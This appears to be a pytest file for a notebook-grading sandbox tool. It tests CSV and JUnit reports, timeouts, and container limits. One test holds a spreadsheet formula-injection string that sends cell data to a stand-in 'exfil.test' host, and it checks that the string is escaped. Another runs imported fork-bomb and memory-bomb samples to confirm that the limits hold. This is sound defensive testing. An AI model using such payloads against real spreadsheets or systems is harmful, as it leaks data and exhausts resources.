"""`kernel-sandbox run` over a folder of student submissions (the CI way of grading): each
notebook in a fresh sandbox with a per-notebook time limit, a JUnit report and a CSV summary.
"""

from __future__ import annotations

import csv
from pathlib import Path

from support.grading import FORK_BOMB, MEMORY_BOMB
from support.kernels import make_kernelspec
from test_run import CONTAINED, junit_cases, notebook, outputs, run

from kernel_sandbox.batch.results import CSV_COLUMNS, NotebookResult, Status, write_csv


def _rows(path: Path) -> dict[str, dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
        return {row["notebook"]: row for row in reader}


def test_csv_fields_are_one_line_and_never_formulas(tmp_path: Path) -> None:
    """An error message is the notebook's (a student's, an attacker's): a spreadsheet must
    show it as text."""
    bad = NotebookResult(path=tmp_path / "x.ipynb", name="x.ipynb", status=Status.FAILED)
    bad.summary = '=HYPERLINK("http://exfil.test/?"&A1,"click")'
    bad.error_type, bad.failed_cell, bad.cell, bad.cells = "ValueError", "cell 2", 1, 3
    bad.sandbox = {"kernelspec": "python3-sandbox", "container": "0123456789ab"}
    good = NotebookResult(path=tmp_path / "y.ipynb", name="y.ipynb", status=Status.PASSED)
    good.summary, good.duration = "-leftover", 1.5
    multi = NotebookResult(path=tmp_path / "z.ipynb", name="z.ipynb", status=Status.FAILED)
    multi.summary = "line one\nline two\x1b[31m red\x1b[0m\x00"
    write_csv([bad, good, multi], tmp_path / "s.csv")
    rows = _rows(tmp_path / "s.csv")
    assert rows["x.ipynb"]["error"].startswith("'=HYPERLINK(")
    assert rows["x.ipynb"]["failed_cell"] == "cell 2"
    assert (rows["x.ipynb"]["cells_run"], rows["x.ipynb"]["cells"]) == ("1", "3")
    assert rows["x.ipynb"]["container"] == "0123456789ab"
    assert rows["x.ipynb"]["image"] == ""
    assert rows["y.ipynb"]["error"] == "" and rows["y.ipynb"]["duration_s"] == "1.500"
    assert rows["z.ipynb"]["error"] == "line one line two red"
    assert len((tmp_path / "s.csv").read_text().splitlines()) == 4


def test_run_over_submissions_with_a_notebook_timeout(
    tmp_path: Path, leak_check, jupyter_path: Path
) -> None:
    """The grading kernelspec of docs/grading.md: strict, small limits, workspace read-only."""
    kernel = make_kernelspec(
        "grading-run-test",
        {"profile": "strict", "memory_limit": "256m", "pids_limit": 64, "tmpfs_size": "64m"},
    )
    subs = tmp_path / "submissions"
    notebook(
        subs / "alice" / "ps1.ipynb",
        CONTAINED,
        "def squares(n):\n    return [i * i for i in range(n)]",
        "assert squares(3) == [0, 1, 4]",
    )
    notebook(
        subs / "bob" / "ps1.ipynb",
        "def squares(n):\n    return []",
        "assert squares(3) == [0, 1, 4], '=1+1'",
    )
    notebook(
        subs / "carol" / "ps1.ipynb",
        "import time\nfor _ in range(600):\n    time.sleep(0.1)",
        "print('never')",
    )
    notebook(
        subs / "eve" / "ps1.ipynb",
        FORK_BOMB,
        MEMORY_BOMB,
    )
    report, summary = tmp_path / "r.xml", tmp_path / "r.csv"
    proc = run(
        subs,
        "--jobs",
        "2",
        "--notebook-timeout",
        "20",
        "--kernel",
        kernel,
        "--junit",
        report,
        "--csv",
        summary,
        "--output-dir",
        tmp_path / "out",
    )
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert f"CSV summary: {summary}" in proc.stderr
    rows = _rows(summary)
    assert sorted(rows) == [f"{s}/ps1.ipynb" for s in ("alice", "bob", "carol", "eve")]
    alice, bob, carol, eve = (rows[f"{s}/ps1.ipynb"] for s in ("alice", "bob", "carol", "eve"))
    assert (alice["status"], alice["cells_run"], alice["cells"]) == ("passed", "3", "3")
    assert alice["failed_cell"] == alice["error"] == ""
    assert (bob["status"], bob["cells_run"], bob["error_type"]) == ("failed", "2", "AssertionError")
    assert bob["failed_cell"] == "cell 3 (code cell 2 of 2)"
    assert bob["error"].startswith("cell 3 (code cell 2 of 2): AssertionError: =1+1")
    assert (carol["status"], carol["error_type"]) == ("timed out", "NotebookTimeout")
    assert carol["failed_cell"] == "cell 2 (code cell 1 of 2)"
    assert float(carol["duration_s"]) >= 20  # the notebook ran until its time limit
    assert eve["status"] == "failed" and "out of memory" in eve["error"]
    assert eve["failed_cell"] == "cell 3 (code cell 2 of 2)"
    counted = [line for line in outputs(tmp_path / "out" / "eve" / "ps1.ipynb").splitlines()]
    processes = [int(line.split()[1]) for line in counted if line.startswith("processes ")]
    assert processes and 30 <= processes[0] <= 64, counted  # the fork bomb met pids_limit
    for row in rows.values():
        assert row["kernelspec"] == kernel and row["profile"] == "strict"
        assert row["image"].startswith("kernel-sandbox/python") and row["runtime"] == "runc"
        assert len(row["container"]) == 12
        assert row["path"].endswith(row["notebook"])
    assert len({row["container"] for row in rows.values()}) == 4  # a fresh sandbox each
    assert sorted(junit_cases(report)) == sorted(rows)
